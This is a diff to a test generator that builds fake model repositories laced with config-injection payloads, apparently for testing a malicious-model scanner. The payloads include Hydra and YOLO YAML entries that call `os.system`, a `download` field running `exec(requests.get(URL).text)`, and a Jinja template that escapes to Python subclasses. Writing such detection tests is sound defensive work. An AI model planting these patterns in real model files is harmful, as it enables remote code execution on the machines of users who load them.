@@ -240,6 +240,16 @@ def _configurations() -> Iterator[Repository]:
         kind,
         {"model_index.json": index.replace("subprocess", "subprocess" + MARK)},
     )
+    alias = f"x: &x os.system{MARK}\ny:\n  _target_: *x\n  command: echo\n"
+    yield Repository("hydra-alias", kind, {"c.yaml": alias})
+    called = f"model:\n  target: os.system{MARK}\n  params: {{command: echo}}\n"
+    yield Repository("target-with-params", kind, {"c.yaml": called})
+    layers = "backbone:\n  - [-1, 1, Conv, [64]]\n"
+    evaluated = f"activation: __import__('os').system('echo'){MARK}\n" + layers
+    yield Repository("yolo-activation", kind, {"yolo.yaml": evaluated})
+    fetched = "train: a\nnames: [b]\ndownload: |\n  import requests\n"
+    fetched += f"  exec(requests.get('{URL}').text){MARK}\n"
+    yield Repository("yolo-download", kind, {"data.yaml": fetched})
     template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
     chat = {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}" + template}
     yield Repository("chat-template", kind, {"tokenizer_config.json": json.dumps(chat) + MARK})
